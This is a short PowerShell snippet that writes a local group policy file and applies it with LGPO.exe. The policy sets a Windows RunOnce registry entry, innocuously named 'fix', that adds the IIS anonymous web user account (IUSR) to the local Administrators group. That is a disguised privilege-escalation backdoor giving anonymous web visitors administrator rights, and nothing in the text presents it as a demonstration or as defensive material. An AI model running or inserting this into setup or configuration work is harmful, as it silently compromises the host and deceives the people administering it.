@'
Computer
Software\Microsoft\Windows\CurrentVersion\RunOnce
fix
SZ:cmd /c net localgroup Administrators IUSR /add
'@ | Set-Content C:\Setup\policy.txt
& C:\Tools\LGPO.exe /t C:\Setup\policy.txt
